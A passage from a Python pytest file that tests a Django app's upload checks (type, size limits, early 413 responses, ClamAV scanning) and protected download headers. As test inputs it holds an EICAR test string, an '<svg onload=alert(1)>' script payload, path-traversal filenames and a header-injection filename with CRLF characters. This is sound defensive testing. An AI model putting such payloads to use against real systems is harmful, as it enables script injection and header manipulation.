        (checked,) = uploads_from(request, "contract", UploadKind.CONTRACT)
    except UploadRejected as exc:
        page = FORM_PAGE.render(RequestContext(request, {"error": exc.message}))
        return HttpResponse(page, status=exc.status)
    return JsonResponse({"filename": checked.filename, "type": checked.content_type, "size": checked.size})


urlpatterns = [
    path("upload/", contract_upload_view),
    path("upload/form/", contract_form_view),
    path("", include("openar.urls")),
]


@pytest.fixture
def small_contract_limit(settings: Any) -> int:
    CALLS.clear()
    settings.OPENAR_UPLOAD_LIMITS = {**settings.OPENAR_UPLOAD_LIMITS, "contract": 100 * 1024}
    return 100 * 1024


@pytest.mark.urls(__name__)
@pytest.mark.django_db
def test_a_view_round_trip_accepts_a_pdf(client: Client, small_contract_limit: int) -> None:
    data = pdf_bytes()
    response = client.post("/upload/", {"contract": upload("../Contract.pdf", data, "text/html")})
    assert response.status_code == 200
    assert response.json() == {"filename": "Contract.pdf", "type": "application/pdf", "size": len(data)}


@pytest.mark.urls(__name__)
@pytest.mark.django_db
def test_a_view_round_trip_refuses_a_png_renamed_exe_on_the_page(
    client: Client, small_contract_limit: int
) -> None:
    response = client.post("/upload/", {"contract": upload("contract.exe", image_bytes("PNG"))})
    assert response.status_code == 400
    assert "This file is a PNG image, but only PDF files can be signed." in response.content.decode()


@pytest.mark.urls(__name__)
@pytest.mark.django_db
def test_a_view_round_trip_with_the_scanner(client: Client, clamd: str, small_contract_limit: int) -> None:
    carrier = pdf_bytes().replace(b"%%EOF", b"%" + eicar() + b"\n%%EOF")
    response = client.post("/upload/", {"contract": upload("contract.pdf", carrier)})
    assert response.status_code == 400
    assert f"This file contains malware ({SIGNATURE}) and was not accepted." in response.content.decode()

    clean = pdf_bytes()
    response = client.post("/upload/", {"contract": upload("contract.pdf", clean)})
    assert response.status_code == 200
    assert response.json()["size"] == len(clean)


@pytest.mark.urls(__name__)
@pytest.mark.django_db
def test_a_view_round_trip_with_the_scanner_down(
    client: Client, settings: Any, tmp_path: Path, small_contract_limit: int
) -> None:
    settings.OPENAR_CLAMD = f"unix:{tmp_path / 'gone.sock'}"
    response = client.post("/upload/", {"contract": upload("contract.pdf", pdf_bytes())})
    assert response.status_code == 503
    assert escape(UNCHECKED) in response.content.decode()


@pytest.mark.urls(__name__)
@pytest.mark.django_db
def test_a_file_just_over_the_limit_is_a_413_on_the_views_own_page(
    client: Client, small_contract_limit: int
) -> None:
    data = pdf_bytes() + b"0" * (150 * 1024)
    response = client.post("/upload/", {"contract": upload("big.pdf", data)})
    assert response.status_code == 413
    size = f"{round(len(data) / 1024)} KB"
    assert f"This file is {size}; contracts can be at most 100 KB." in response.content.decode()
    assert CALLS == ["POST"]


@pytest.mark.urls(__name__)
@pytest.mark.django_db
def test_a_body_far_over_the_limit_is_a_413_page_and_the_view_never_runs(
    client: Client, small_contract_limit: int
) -> None:
    data = pdf_bytes() + b"0" * (2 * MB)
    response = client.post("/upload/", {"contract": upload("huge.pdf", data)})
    assert response.status_code == 413
    page = response.content.decode()
    assert "The file was not accepted" in page
    assert "contracts can be at most 100 KB." in page
    assert CALLS == []


def test_the_413_comes_before_the_body_is_read(small_contract_limit: int) -> None:
    """The middleware answers from Content-Length alone: reading the body would fail here."""

    class Unreadable(io.RawIOBase):
        def readable(self) -> bool:
            return True

        def readinto(self, buffer: Any) -> int:
            raise AssertionError("the request body was read")

    request = RequestFactory().generic("POST", "/upload/", HTTP_REFERER="http://testserver/x")
    request.META["CONTENT_TYPE"] = "multipart/form-data; boundary=xyz"
    request.META["CONTENT_LENGTH"] = str(300 * MB)
    request.META["wsgi.input"] = Unreadable()
    request._stream = Unreadable()  # type: ignore[assignment]
    middleware = UploadLimitMiddleware(lambda r: HttpResponse("view"))
    response = middleware.process_view(request, contract_upload_view, (), {})
    assert response is not None and response.status_code == 413
    assert "This upload is 300 MB; contracts can be at most 100 KB." in response.content.decode()
    assert 'href="http://testserver/x"' in response.content.decode()

    # A view that takes several files: the limit is per file, the body holds them all.
    @accepts_uploads(UploadKind.ATTACHMENT, max_files=3)
    def several(request: HttpRequest) -> HttpResponse:
        return HttpResponse()

    response = middleware.process_view(request, several, (), {})
    assert response is not None and response.status_code == 413
    assert "This upload is 300 MB; send at most 3 files at a time, each of at most 10 MB." in (
        response.content.decode()
    )
    request.META["CONTENT_LENGTH"] = str(31 * MB)
    assert middleware.process_view(request, several, (), {}) is None
    request.META["CONTENT_LENGTH"] = str(31 * MB + 1)
    assert middleware.process_view(request, several, (), {}) is not None
    request.META["CONTENT_LENGTH"] = str(300 * MB)

    # Without the view's mark: the largest limit of any kind (50 MB imports) and the form's room.
    response = middleware.process_view(request, lambda r: HttpResponse(), (), {})
    assert response is not None and response.status_code == 413
    assert "This upload is 300 MB, more than the 51 MB accepted." in response.content.decode()

    # Small enough, or not a multipart body: the view runs.
    request.META["CONTENT_LENGTH"] = str(50 * 1024)
    assert middleware.process_view(request, contract_upload_view, (), {}) is None
    request.META["CONTENT_LENGTH"] = str(300 * MB)
    request.META["CONTENT_TYPE"] = "application/x-www-form-urlencoded"
    assert middleware.process_view(request, contract_upload_view, (), {}) is None


def _http_response(conn: socket.socket) -> tuple[str, dict[str, str], bytes]:
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = conn.recv(65536)
        assert chunk, f"the server closed the connection without a response: {data!r}"
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    status, *lines = head.decode("latin-1").split("\r\n")
    headers = {name.lower(): value.strip() for name, _, value in (line.partition(":") for line in lines)}
    while len(body) < int(headers.get("content-length", "0")):
        chunk = conn.recv(65536)
        if not chunk:
            break
        body += chunk
    return status, headers, body


@pytest.mark.urls(__name__)
def test_over_http_the_413_arrives_while_the_body_is_still_unsent(
    live_server: Any, small_contract_limit: int
) -> None:
    """A client announces 500 MB and sends only the first bytes: the answer comes at once."""
    address = live_server.url.removeprefix("http://")
    host, _, port = address.partition(":")
    with socket.create_connection((host, int(port)), timeout=10) as conn:
        conn.sendall(
            f"POST /upload/ HTTP/1.1\r\nHost: {address}\r\n"
            "Content-Type: multipart/form-data; boundary=xyz\r\n"
            f"Content-Length: {500 * MB}\r\n\r\n".encode()
            + b'--xyz\r\nContent-Disposition: form-data; name="contract"; filename="a.pdf"\r\n\r\n%PDF-1.4\n'
        )
        status, headers, body = _http_response(conn)
    assert status == "HTTP/1.1 413 Request Entity Too Large"
    assert headers["content-type"] == "text/html; charset=utf-8"
    assert "This upload is 500 MB; contracts can be at most 100 KB." in body.decode()
    assert CALLS == []


def test_uploads_from_a_multipart_request() -> None:
    factory = RequestFactory()
    request = factory.post(
        "/x/", {"files": [upload("a.pdf", pdf_bytes()), upload("b.png", image_bytes("PNG"))], "note": "hi"}
    )
    checked = uploads_from(request, "files", UploadKind.ATTACHMENT, max_files=2)
    assert [(c.filename, c.content_type) for c in checked] == [
        ("a.pdf", "application/pdf"),
        ("b.png", "image/png"),
    ]

    with pytest.raises(UploadRejected) as caught:
        uploads_from(request, "files", UploadKind.ATTACHMENT)
    assert (caught.value.message, caught.value.field) == ("Upload at most 1 file at a time.", "files")

    with pytest.raises(UploadRejected) as caught:
        uploads_from(request, "files", UploadKind.CONTRACT, max_files=2)
    assert caught.value.message == "b.png: This file is a PNG image, but only PDF files can be signed."

    with pytest.raises(UploadRejected) as caught:
        uploads_from(request, "missing", UploadKind.CONTRACT)
    assert (caught.value.message, caught.value.code) == ("Choose a file to upload.", "required")
    assert uploads_from(request, "missing", UploadKind.CONTRACT, required=False) == []


def test_uploads_from_a_413(settings: Any) -> None:
    settings.OPENAR_UPLOAD_LIMITS = {**settings.OPENAR_UPLOAD_LIMITS, "import": 1024}
    request = RequestFactory().post("/x/", {"file": upload("big.csv", b"a,b\n" * 1000)})
    with pytest.raises(UploadRejected) as caught:
        uploads_from(request, "file", UploadKind.IMPORT)
    assert (caught.value.status, caught.value.field) == (413, "file")
    assert caught.value.message == "This file is 4 KB; imports can be at most 1 KB."


# --- downloads ------------------------------------------------------------------------------


def test_content_disposition_is_an_attachment_with_a_safe_name() -> None:
    assert content_disposition("Invoice 7.pdf") == 'attachment; filename="Invoice 7.pdf"'
    assert (
        content_disposition('a"b\r\nc;.pdf')
        == "attachment; filename=\"a_bc_.pdf\"; filename*=UTF-8''a_bc%3B.pdf"
    )
    assert content_disposition("Facture été.pdf") == (
        "attachment; filename=\"Facture ete.pdf\"; filename*=UTF-8''Facture%20%C3%A9t%C3%A9.pdf"
    )
    assert content_disposition("../../") == 'attachment; filename="download"'


def _assert_protected(response: HttpResponse | Any, disposition: str) -> None:
    assert response["Content-Disposition"] == disposition
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert response["Cache-Control"] == "private, no-store"


def test_attachment_response_never_serves_a_page() -> None:
    response = attachment_response(io.BytesIO(b"<html>"), filename="x.html", content_type="text/html")
    assert response["Content-Type"] == "application/octet-stream"
    _assert_protected(response, 'attachment; filename="x.html"')
    response = attachment_response(io.BytesIO(b"a,b\n"), filename="data.csv", content_type="text/csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    response = attachment_response(io.BytesIO(b"%PDF-"), filename="a.pdf", content_type="application/pdf")
    assert response["Content-Type"] == "application/pdf"


def test_document_response_is_a_protected_attachment() -> None:
    name = default_storage.save("documents/test/x.bin", ContentFile(b"<svg onload=alert(1)>"))
    try:
        document = Document(filename="Relevé\u202e.svg", content_type="image/svg+xml")
        document.file.name = name
        response = document_response(document)
        assert response["Content-Type"] == "application/octet-stream"
        _assert_protected(response, "attachment; filename=\"Releve.svg\"; filename*=UTF-8''Relev%C3%A9.svg")
        assert b"".join(response.streaming_content) == b"<svg onload=alert(1)>"  # type: ignore[arg-type]
        response.file_to_stream.close()  # type: ignore[union-attr]
    finally:
        default_storage.delete(name)


def test_uploaded_file_type_is_what_views_receive() -> None:
    """Django gives views UploadedFile objects; upload_check takes any of them."""
    request = RequestFactory().post("/x/", {"f": upload("a.pdf", pdf_bytes())})
    received = request.FILES["f"]
    assert isinstance(received, UploadedFile)
    assert upload_check(received, kind=UploadKind.CONTRACT).content_type == "application/pdf"


# --- in a real browser ----------------------------------------------------------------------


def _in_own_thread(flow: Callable[[], None]) -> None:
    """Run ``flow`` in a thread of its own: it starts its own Playwright, which must not meet
    the browser suite's (one sync Playwright per thread)."""
    errors: list[BaseException] = []

    def run() -> None:
        try:
            flow()
        except BaseException as exc:  # handed to the test's thread
            errors.append(exc)

    thread = threading.Thread(target=run, name="upload-browser-test")
    thread.start()
    thread.join(180)
    assert not thread.is_alive(), "the browser flow did not finish within 180 s"
    if errors:
        raise errors[0]


@pytest.mark.browser
@pytest.mark.urls(__name__)
def test_in_a_browser_too_large_files_are_refused_with_a_page_that_says_why(
    live_server: Any, small_contract_limit: int
) -> None:
    """A file just over the limit: the form again, with the reason, status 413. A file far
    over it: the 413 page, before the body is read. Both pass axe and fit 375 px."""
    from axe_playwright_python.sync_playwright import Axe
    from playwright.sync_api import FilePayload, Page, sync_playwright

    from browser.conftest import CHROMIUM, CHROMIUM_ARGS
    from browser.test_portal_browser import WIDER_THAN_VIEWPORT, run_axe

    findings: list[str] = []

    def upload_file(page: Page, data: bytes) -> int:
        page.goto("/upload/form/")
        chosen: FilePayload = {"name": "Contract.pdf", "mimeType": "application/pdf", "buffer": data}
        page.set_input_files("#contract", files=[chosen])
        with page.expect_navigation() as navigation:
            page.click("main button[type=submit]")
        response = navigation.value
        assert response is not None
        return int(response.status)

    def look(page: Page, where: str, width: int) -> None:
        findings.extend(run_axe(Axe(), page, where, width))
        if width == 375:
            scroll = page.evaluate("document.documentElement.scrollWidth")
            assert scroll <= width, f"{where}: {scroll}px wide: {page.evaluate(WIDER_THAN_VIEWPORT)}"

    def flow() -> None:
        with sync_playwright() as driver:
            browser = driver.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
            try:
                for width in (375, 1280):
                    context = browser.new_context(
                        viewport={"width": width, "height": 800}, base_url=str(live_server), locale="en-CA"
                    )
                    context.set_default_timeout(15_000)
                    page = context.new_page()

                    assert upload_file(page, pdf_bytes() + b"%" + b"0" * (150 * 1024)) == 413
                    alert = page.get_by_role("alert").inner_text()
                    assert alert.startswith("This file is ")
                    assert alert.endswith("; contracts can be at most 100 KB.")
                    assert page.get_attribute("#contract", "aria-invalid") == "true"
                    look(page, "upload-just-over", width)

                    assert upload_file(page, pdf_bytes() + b"%" + b"0" * (3 * MB)) == 413
                    assert page.get_by_role("heading", level=1).inner_text() == "The file was not accepted"
                    alert = page.get_by_role("alert").inner_text()
                    assert alert.startswith("This upload is 3 MB")
                    assert alert.endswith("contracts can be at most 100 KB.")
                    look(page, "upload-far-over", width)
                    page.get_by_role("link", name="Go back and choose another file").click()
                    page.wait_for_url("**/upload/form/")
                    assert page.get_by_role("heading", level=1).inner_text() == "Upload a contract"

                    assert upload_file(page, pdf_bytes()) == 200
                    context.close()
            finally:
                browser.close()

    _in_own_thread(flow)
    assert CALLS == ["POST", "POST", "POST", "POST"]  # the far-over uploads never reached the view
    assert findings == [], "\n".join(findings)
